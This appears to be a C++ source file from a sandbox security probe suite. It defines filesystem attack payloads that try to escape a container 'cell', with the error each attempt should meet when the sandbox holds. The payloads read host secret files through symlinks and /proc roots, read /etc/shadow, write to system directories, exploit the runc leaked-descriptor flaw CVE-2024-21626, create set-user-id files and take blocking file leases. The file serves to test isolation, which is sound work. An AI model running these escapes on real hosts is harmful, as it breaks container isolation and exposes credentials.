// Files of the host that no cell shows, and files of the cell that it must not change.
#include <fcntl.h>
#include <linux/openat2.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include <cerrno>

#include "launcher/base/text.h"
#include "launcher/base/unique_fd.h"
#include "probe/attack/payloads/call.h"
#include "probe/attack/payloads/topics.h"

namespace taskcell::attack {
namespace {

constexpr std::string_view kTopic = "files";
constexpr int kMostDescriptors = 256;

Attempted ReadHostFile(const Targets& targets) { return TryReading(targets.secret); }

Attempted ReadHostFileByLink(const Targets& targets) {
  std::string link = targets.scratch + "/link";
  (void)Call(SYS_unlinkat, AT_FDCWD, link.c_str(), 0);
  int64_t made = Call(SYS_symlinkat, targets.secret.c_str(), AT_FDCWD, link.c_str());
  if (made < 0) return Of(made, "symlinkat");
  return TryReading(link);
}

// The same path from every directory that is called the root of some process.
Attempted ReadHostFileByOtherRoots(const Targets& targets) {
  Attempted last = {ENOENT};
  for (const char* root : {"/proc/1/root", "/proc/self/root/..", "/proc/self/cwd/../../../.."}) {
    last = TryReading(Text(root, targets.secret));
    if (last.result == 0) return last;
  }
  return last;
}

// Without a name, so that nothing is left of it where it can be made.
template <const char* kDirectory>
Attempted WriteTo(const Targets& /*targets*/) {
  return TryOpening(kDirectory, O_TMPFILE | O_WRONLY);
}
constexpr char kRootDirectory[] = "/";
constexpr char kUsr[] = "/usr";
constexpr char kEtc[] = "/etc";
constexpr char kDev[] = "/dev";

Attempted ReadShadow(const Targets& /*targets*/) { return TryReading("/etc/shadow"); }

// CVE-2024-21626: a runtime that has a directory of the host open lets the job's working directory
// be /proc/self/fd/N, and everything of the host is below "..". The file wanted is looked for from
// every descriptor that is open.
Attempted UseLeakedDirectory(const Targets& targets) {
  std::string name = targets.secret.substr(targets.secret.rfind('/') + 1);
  for (int fd = 3; fd < kMostDescriptors; ++fd) {
    if (Call(SYS_fchdir, fd) < 0) continue;
    for (std::string up; up.size() < 40; up += "../") {
      if (TryReading(up + name).result == 0) return {0, Text("descriptor ", fd)};
      if (TryReading(Text(up, targets.secret.substr(1))).result == 0)
        return {0, Text("descriptor ", fd)};
    }
  }
  return {EBADF, "no directory is open"};
}

// The working directory the job was started in, before any other.
Attempted UseLeakedWorkingDirectory(const Targets& targets) {
  for (int fd = 3; fd < kMostDescriptors; ++fd) {
    std::string path = Text("/proc/self/fd/", fd);
    if (Call(SYS_chdir, path.c_str()) == 0 && TryReading("secret").result == 0) return {0, path};
  }
  std::string up = ".";
  for (int level = 0; level < 16; ++level) {
    up += "/..";
    if (TryReading(up + targets.secret).result == 0) return {0, up};
  }
  return {ENOENT, "no path leads out of the working directory"};
}

constexpr int kSetIdMode = 06755;

// Without a name, so that nothing is left of it.
Attempted MakeSetIdFile(const Targets& targets) {
  return Of(Call(SYS_openat, AT_FDCWD, targets.scratch.c_str(), O_TMPFILE | O_WRONLY | O_CLOEXEC,
                 kSetIdMode));
}

Attempted MakeSetIdFileByOpenAt2(const Targets& targets) {
  struct open_how how = {};
  how.flags = O_TMPFILE | O_WRONLY | O_CLOEXEC;
  how.mode = kSetIdMode;
  return Of(Call(SYS_openat2, AT_FDCWD, targets.scratch.c_str(), &how, sizeof how));
}

Attempted AddSetIdBits(const Targets& targets) {
  int64_t file = OpenFile(targets.scratch, O_TMPFILE | O_WRONLY);
  if (file < 0) return Of(file, targets.scratch);
  return Of(Call(SYS_fchmod, file, kSetIdMode));
}

Attempted LeaseFile(const Targets& targets) {
  std::string path = targets.scratch + "/leased";
  int64_t file = OpenFile(path, O_CREAT | O_RDONLY);
  if (file < 0) return Of(file, path);
  (void)Call(SYS_unlinkat, AT_FDCWD, path.c_str(), 0);
  return Of(Call(SYS_fcntl, file, F_SETLEASE, F_RDLCK));
}

constexpr Payload kPayloads[] = {
    {"host-file", kTopic, "read a file of the host", Control::kUser, {ENOENT}, ReadHostFile},
    {"host-file-by-link",
     kTopic,
     "read a file of the host through a link it makes",
     Control::kUser,
     {ENOENT},
     ReadHostFileByLink},
    {"host-file-by-other-roots",
     kTopic,
     "read a file of the host from below other roots",
     Control::kUser,
     {ENOENT, EACCES},
     ReadHostFileByOtherRoots},
    {"shadow", kTopic, "read /etc/shadow", Control::kRoot, {ENOENT, EACCES}, ReadShadow},
    {"write-root", kTopic, "write to /", Control::kRoot, {EROFS}, WriteTo<kRootDirectory>},
    // ENOENT: an image without it.
    {"write-usr", kTopic, "write to /usr", Control::kRoot, {EROFS, ENOENT}, WriteTo<kUsr>},
    {"write-etc", kTopic, "write to /etc", Control::kRoot, {EROFS, ENOENT}, WriteTo<kEtc>},
    // EACCES: an engine's own /dev is writable for its root alone.
    {"write-dev", kTopic, "write to /dev", Control::kRoot, {EROFS, EACCES}, WriteTo<kDev>},
    {"cve-2024-21626-descriptor",
     kTopic,
     "find a directory of the host among its descriptors",
     Control::kUser,
     {EBADF},
     UseLeakedDirectory},
    {"cve-2024-21626-working-directory",
     kTopic,
     "reach the host from its working directory or /proc/self/fd",
     Control::kUser,
     {ENOENT},
     UseLeakedWorkingDirectory},
    {"set-id-file",
     kTopic,
     "make a set-user-id file, for other users to run where the directory is the host's",
     Control::kUser,
     {EPERM},
     MakeSetIdFile},
    {"set-id-file-by-openat2",
     kTopic,
     "hide the mode of such a file behind openat2's pointer",
     Control::kUser,
     {ENOSYS},
     MakeSetIdFileByOpenAt2},
    {"set-id-bits",
     kTopic,
     "give a file of its own the set-user-id bit",
     Control::kUser,
     {EPERM},
     AddSetIdBits},
    {"lease",
     kTopic,
     "take a lease, which keeps whoever opens the file on the host waiting",
     Control::kUser,
     {EPERM},
     LeaseFile},
};

}  // namespace

std::span<const Payload> FilePayloads() { return kPayloads; }

}  // namespace taskcell::attack
